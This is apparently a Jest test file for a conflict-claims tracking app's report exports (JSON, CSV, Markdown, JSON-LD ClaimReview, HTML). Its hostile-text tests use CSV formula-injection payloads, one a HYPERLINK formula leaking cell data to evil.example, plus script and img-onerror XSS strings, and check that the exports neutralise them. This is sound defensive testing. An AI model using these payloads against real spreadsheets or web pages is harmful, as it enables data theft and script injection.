import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import jsonld from 'jsonld';
import { marked } from 'marked';
import { loadBamakoCase, LoadedDemo } from '../src/demo/load-demo';
import { launchBrowser } from './browser';
import { claimBody, create, sourceBody } from './factories';
import { bearer, startTestApp, TestApp } from './harness';

const OUTPUT = join(__dirname, 'output');
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\tcmd',
  'a | pipe\nand a new line',
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 2">',
];

/** Schema.org's context, offline: JSON-LD expansion without the network. */
const documentLoader = async (url: string) => {
  if (url.replace(/\/$/, '').replace('http:', 'https:') === 'https://schema.org') {
    return { contextUrl: undefined, documentUrl: url, document: { '@context': { '@vocab': 'https://schema.org/' } } };
  }
  throw new Error(`no network in tests: ${url}`);
};

describe('reports and exports', () => {
  let t: TestApp;
  let demo: LoadedDemo;
  const get = (path: string, key?: string) => t.http().get(path).set(bearer(key ?? t.keys.viewer));

  beforeAll(async () => {
    t = await startTestApp();
    demo = await loadBamakoCase(t.app, t.admin);
    const version = (await get(`/claims/${demo.claims[2].id}`)).body.version;
    await t.http().post(`/claims/${demo.claims[2].id}/reviews`).set(bearer(t.keys.reviewer))
      .send({ verdict: 'disputed', version, rationale: 'AFP reports fighting into the afternoon, after the statement' }).expect(201);
  });
  afterAll(() => t.close());

  it('JSON: matches the database', async () => {
    const response = await get(`/events/${demo.event.id}/report?format=json`).expect(200).expect('content-type', /application\/json/);
    const report = JSON.parse(response.text);
    expect(response.headers['x-content-sha256']).toBe(report.sha256);
    expect(report.event).toEqual((await get(`/events/${demo.event.id}`)).body);
    const contradictions = (await get(`/events/${demo.event.id}/contradictions`)).body.items;
    expect(report.contradictions.map((c: any) => c.id).sort()).toEqual(contradictions.map((c: any) => c.id).sort());
    expect(report.sources.map((s: any) => s.name)).toEqual([...report.sources.map((s: any) => s.name)].sort((a: string, b: string) => a.localeCompare(b, 'en')));
    const army = report.claimants.find((c: any) => c.sourceId === demo.sources.armyChief.id);
    const reviewed = army.claims.find((c: any) => c.id === demo.claims[2].id);
    expect(reviewed).toMatchObject({ verdict: 'disputed', reviews: { count: 1, latest: [{ verdict: 'disputed' }] } });
    expect(reviewed.quote).toBe('The terrorists have been neutralized. The sweep continues.');
    expect(report.claimants.flatMap((c: any) => c.claims)).toHaveLength(7);
    expect(report.disputes.map((d: any) => d.attribute)).toEqual(expect.arrayContaining(['outcome', 'targets']));
    expect(report.corroborations.map((c: any) => c.value)).toEqual(['gendarmerie school']);
    // A claim's credibility carries its reasons' words (the API's names may grow, not change), as its credibility route gives them.
    expect(reviewed.credibility.reasons).toEqual((await get(`/claims/${reviewed.id}/credibility`)).body.reasons);
    expect(reviewed.credibility.reasons.length).toBeGreaterThan(0);
    expect(report).not.toHaveProperty('reasons');
  });

  it('CSV: one row per contradiction with the right claimants and values, read back by a CSV parser', async () => {
    const response = await get(`/events/${demo.event.id}/report?format=csv`).expect(200).expect('content-type', /text\/csv/);
    const rows = parse(response.text, { columns: true }) as Array<Record<string, string>>;
    const contradictions = (await get(`/events/${demo.event.id}/contradictions`)).body.items;
    expect(rows).toHaveLength(contradictions.length);
    const outcome = rows.find((r) => r.attribute === 'outcome')!;
    expect(outcome).toMatchObject({ kind: 'category_conflict', severity: 'high', side_a_value: 'success', side_b_value: 'repelled' });
    expect(outcome.side_a_sources).toBe("Jama'at Nusrat al-Islam wal-Muslimin");
    expect(outcome.side_b_sources).toBe('General Oumar Diarra');
    expect(response.text.startsWith('\uFEFF')).toBe(false);
    const withBom = await get(`/events/${demo.event.id}/report?format=csv&bom=true`).expect(200);
    expect(withBom.text.charCodeAt(0)).toBe(0xfeff);
    expect(response.text).toContain('\r\n');
  });

  it('Markdown: renders tables with a Markdown library', async () => {
    const response = await get(`/events/${demo.event.id}/report?format=markdown`).expect(200).expect('content-type', /text\/markdown/);
    const html = await marked.parse(response.text);
    expect((html.match(/<table>/g) ?? []).length).toBeGreaterThanOrEqual(5);
    expect(html).toContain('<th>severity</th>');
    expect(html).toMatch(/JNIM says the outcome was success/);
  });

  it('ClaimReview: JSON-LD with every required property, expanded by a JSON-LD processor; 409 before a verdict', async () => {
    const response = await get(`/claims/${demo.claims[2].id}/claim-review`).expect(200).expect('content-type', /application\/ld\+json/);
    const expanded = await jsonld.expand(JSON.parse(response.text), { documentLoader: documentLoader as never });
    const node = expanded[0] as Record<string, any>;
    const S = 'https://schema.org/';
    expect(node['@type']).toEqual([`${S}ClaimReview`]);
    for (const property of ['claimReviewed', 'reviewRating', 'itemReviewed', 'author', 'url', 'datePublished']) expect(node[`${S}${property}`]).toBeDefined();
    const rating = node[`${S}reviewRating`][0];
    expect(rating[`${S}alternateName`][0]['@value']).toBe('Disputed');
    expect(rating[`${S}ratingValue`][0]['@value']).toBe(3);
    const item = node[`${S}itemReviewed`][0];
    expect(item['@type']).toEqual([`${S}Claim`]);
    for (const property of ['author', 'datePublished', 'appearance', 'firstAppearance']) expect(item[`${S}${property}`]).toBeDefined();
    expect(item[`${S}author`][0][`${S}name`][0]['@value']).toBe('General Oumar Diarra');
    const unreviewed = await get(`/claims/${demo.claims[0].id}/claim-review`).expect(409);
    expect(unreviewed.body).toMatchObject({ code: 'CONFLICT', message: expect.stringMatching(/no verdict yet/) });
  });

  // That another time changes only the stamp is checked with fixed times in src/reports/report.spec.ts.
  it('gives the same bytes for the same data, but for the time stamp', async () => {
    const strip = (text: string) => text.replace(/\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z/g, (stamp, offset, whole) => (whole.slice(Math.max(0, offset - 20), offset).match(/generatedAt|Generated /) ? 'STAMP' : stamp));
    for (const format of ['json', 'markdown', 'csv', 'html']) {
      const first = await get(`/events/${demo.event.id}/report?format=${format}`).expect(200);
      const second = await get(`/events/${demo.event.id}/report?format=${format}`).expect(200);
      expect(strip(second.text)).toBe(strip(first.text));
      expect(second.headers['x-content-sha256']).toBe(first.headers['x-content-sha256']);
      if (format !== 'csv') expect(strip(first.text)).toContain('STAMP');
    }
  });

  describe('hostile text', () => {
    let eventId: string;
    beforeAll(async () => {
      const event = await create(t, '/events', { title: '<script>alert(1)</script> event', type: 'riots' });
      eventId = event.id;
      for (const [i, text] of HOSTILE.entries()) {
        const a = await create(t, '/sources', sourceBody({ name: `${text} A${i}`, stake: 'party_to_conflict' }));
        const b = await create(t, '/sources', sourceBody({ name: `B${i}` }));
        await create(t, '/claims', claimBody(a.id, { eventId, text, facets: [{ attribute: 'weapon', subject: `s${i}`, value: `${text} one`.slice(0, 200) }] }));
        await create(t, '/claims', claimBody(b.id, { eventId, text: `plain ${i}`, facets: [{ attribute: 'weapon', subject: `s${i}`, value: 'rifles' }] }));
      }
    });

    it('CSV: no cell can run as a formula', async () => {
      const rows = parse((await get(`/events/${eventId}/report?format=csv`).expect(200)).text, { columns: false }) as string[][];
      expect(rows.length).toBe(HOSTILE.length + 1);
      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
      expect(rows.flat().some((cell) => cell.startsWith("'=HYPERLINK("))).toBe(true);
      const exported = parse((await get(`/exports/contradictions?eventId=${eventId}`).expect(200)).text, { columns: false }) as string[][];
      for (const cell of exported.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    });

    it('Markdown: the tables keep their columns and no raw HTML passes', async () => {
      const markdown = (await get(`/events/${eventId}/report?format=markdown`).expect(200)).text;
      const html = await marked.parse(markdown);
      expect(html).not.toMatch(/<script|<img/i);
      const contradictionsTable = html.split('<h2>Contradictions</h2>')[1].split('</table>')[0];
      const rows = contradictionsTable.match(/<tr>[\s\S]*?<\/tr>/g)!;
      expect(rows).toHaveLength(HOSTILE.length + 1);
      for (const row of rows) expect((row.match(/<t[dh]>/g) ?? []).length).toBe(9);
    });

    it('HTML: shows the text, runs nothing, asks for nothing (real headless browser)', async () => {
      const response = await get(`/events/${eventId}/report?format=html`).expect(200).expect('content-security-policy', /default-src 'none'/);
      expect(response.text).not.toMatch(/<script|<img/i);
      expect(response.text).toContain('&lt;script&gt;window.__pwned = 1&lt;/script&gt;');
      const url = await t.listen();
      const browser = await launchBrowser();
      try {
        const context = await browser.newContext({ extraHTTPHeaders: { authorization: `Bearer ${t.keys.viewer}` } });
        const page = await context.newPage();
        const requests: string[] = [];
        page.on('request', (request) => requests.push(request.url()));
        for (const [id, file] of [[eventId, 'report-hostile.png'], [demo.event.id, 'report-bamako.png']]) {
          requests.length = 0;
          await page.goto(`${url}/events/${id}/report?format=html`);
          expect(await page.evaluate('window.__pwned')).toBeUndefined();
          expect(requests).toEqual([`${url}/events/${id}/report?format=html`]);
          expect(await page.locator('#contradictions tbody tr').count()).toBeGreaterThan(0);
          mkdirSync(OUTPUT, { recursive: true });
          await page.screenshot({ path: join(OUTPUT, file), fullPage: true });
        }
        await page.goto(`${url}/events/${eventId}/report?format=html`);
        expect(await page.locator('#contradictions').innerText()).toContain('<script>window.__pwned = 1</script>');
      } finally {
        await browser.close();
      }
    });
  });

  it('streams the export in pages, as CSV or NDJSON, with filters', async () => {
    const all = (await get('/exports/contradictions?format=ndjson').expect(200).expect('content-type', /ndjson/)).text.trim().split('\n').map((line) => JSON.parse(line));
    const ids = all.map((c) => c.id);
    expect(ids).toEqual([...ids].sort());
    const high = (await get(`/exports/contradictions?format=ndjson&severity=high&eventId=${demo.event.id}`).expect(200)).text.trim().split('\n').map((line) => JSON.parse(line));
    expect(high.length).toBeGreaterThan(0);
    expect(high.every((c) => c.severity === 'high' && c.eventId === demo.event.id)).toBe(true);
    const csv = parse((await get(`/exports/contradictions?eventId=${demo.event.id}`).expect(200)).text, { columns: true }) as Array<Record<string, string>>;
    expect(csv.map((r) => r.contradiction_id).sort()).toEqual(all.filter((c) => c.eventId === demo.event.id).map((c) => c.id).sort());
    await get('/exports/contradictions?format=xml').expect(400);
    await get('/exports/contradictions?since=yesterday').expect(400);
  });
});
